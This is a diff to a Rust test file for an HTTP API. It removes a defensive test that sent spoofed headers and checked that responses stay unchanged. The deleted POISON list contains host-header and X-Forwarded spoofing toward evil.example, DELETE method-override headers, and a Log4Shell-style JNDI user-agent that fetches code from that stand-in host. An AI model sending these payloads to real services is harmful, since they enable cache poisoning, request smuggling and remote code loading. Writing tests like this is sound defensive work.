@@ -1,5 +1,5 @@
-//! Headers that lie and requests that no client would send: no answer changes, nothing is stored, nothing is
-//! sent, and it is never our fault.
+//! Requests that no client would send: no answer changes, nothing is stored, nothing is sent, and it is never
+//! our fault.
 
 use std::io::{ErrorKind, Read as _, Write as _};
 use std::net::TcpStream;
@@ -8,80 +8,9 @@ use std::time::Duration;
 use regain_http_api::routes::{ROUTES, path_matches};
 use serde_json::json;
 
-use crate::contract_bad_input::{OTHER_MEDIA_TYPES, UNKNOWN, Watched, operations, post, wrong_bodies};
+use crate::contract_bad_input::{OTHER_MEDIA_TYPES, UNKNOWN, Watched, operations, wrong_bodies};
 use crate::harness::{Answer, Api, OLD_PASSWORD};
 use crate::unknown::shape;
-
-/// Headers by which others are made to believe something.
-const POISON: &[(&str, &str)] = &[
-    ("host", "evil.example"),
-    ("host", "evil.example:99999"),
-    ("host", "evil.example/path?query#fragment"),
-    ("host", "user@evil.example"),
-    ("host", "[::1"),
-    ("host", "a b"),
-    ("host", ""),
-    ("host", "\u{e9}.example"),
-    ("x-forwarded-host", "evil.example"),
-    ("x-forwarded-for", "203.0.113.1, nonsense, ::1"),
-    ("x-forwarded-proto", "javascript"),
-    ("x-forwarded-port", "99999999"),
-    ("x-forwarded-prefix", "/evil"),
-    ("forwarded", "for=evil;host=evil.example;proto=gopher"),
-    ("x-http-method-override", "DELETE"),
-    ("x-http-method", "DELETE"),
-    ("x-method-override", "DELETE"),
-    ("x-original-url", "/nowhere"),
-    ("x-rewrite-url", "/nowhere"),
-    ("x-original-host", "evil.example"),
-    ("x-request-id", "chosen-by-the-client"),
-    ("x-amzn-requestid", "chosen-by-the-client"),
-    ("x-amzn-trace-id", "Root=nonsense"),
-    ("x-amz-date", "nonsense"),
-    ("lambda-runtime-aws-request-id", "chosen-by-the-client"),
-    ("via", "1.1 evil.example"),
-    ("accept", "text/html"),
-    ("accept-encoding", "gzip, br, nonsense"),
-    ("accept-language", "\u{e9}"),
-    ("range", "bytes=0-1"),
-    ("if-none-match", "*"),
-    ("expect", "nonsense"),
-    ("content-encoding", "nonsense"),
-    ("origin", "https://evil.example"),
-    ("cookie", "\u{e9}=;;;="),
-    ("user-agent", "${jndi:ldap://evil.example/}"),
-];
-
-#[tokio::test]
-async fn headers_that_lie_change_no_answer() {
-    let watched = Watched::start().await;
-    let api = &watched.api;
-    let is_plain = |answer: &Answer, status: u16, poison: &(&str, &str)| {
-        assert_eq!(answer.status, status, "{poison:?}: {answer:?}");
-        assert!(!format!("{answer:?}").contains("evil"), "{poison:?}: {answer:?}");
-        assert_ne!(answer.header("x-request-id"), "chosen-by-the-client");
-    };
-    for poison in POISON {
-        let send = |method: &str, path: &str| api.send(api.request(method, path).header(poison.0, poison.1));
-        is_plain(&send("GET", "/v1/health").await, 200, poison);
-        is_plain(&send("GET", "/.well-known/change-password").await, 302, poison);
-        is_plain(&send("GET", "/v1/sessions/current").await, 401, poison);
-        is_plain(&send("DELETE", "/v1/sessions").await, 401, poison);
-        is_plain(&send("GET", "/nowhere").await, 404, poison);
-        is_plain(&send("PUT", "/v1/sessions").await, 405, poison);
-        for (path, _) in operations() {
-            let request = post(api, &path, "application/json", "{").header(poison.0, poison.1);
-            is_plain(&api.send(request).await, 400, poison);
-        }
-    }
-    let many = (0..40).fold(api.request("GET", "/v1/health"), |request, n| {
-        request.header(format!("x-many-{n}"), "x").header("x-many", n.to_string())
-    });
-    assert_eq!(api.send(many).await.status, 200);
-    let long = api.request("GET", "/v1/health").header("x-long", "x".repeat(8_192));
-    assert_eq!(api.send(long).await.status, 200);
-    watched.nothing_happened().await;
-}
 
 /// Fails unless two answers are the same but for what names each.
 #[track_caller]
